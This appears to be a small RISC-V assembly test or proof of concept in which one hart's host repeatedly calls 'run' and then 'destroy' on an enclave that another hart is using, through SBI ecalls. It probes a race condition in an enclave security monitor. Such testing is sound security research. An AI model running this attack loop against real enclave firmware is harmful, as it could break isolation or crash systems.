# The host of hart 1 calls run for the same enclave as the host of hart 0, then destroy, again and again.
attack: li    a7, 0x0a454e43
next:   li    a6, 3                     # run
        li    a0, 0
        ecall
        li    a6, 2                     # destroy
        li    a0, 0
        ecall
        jal   zero, next
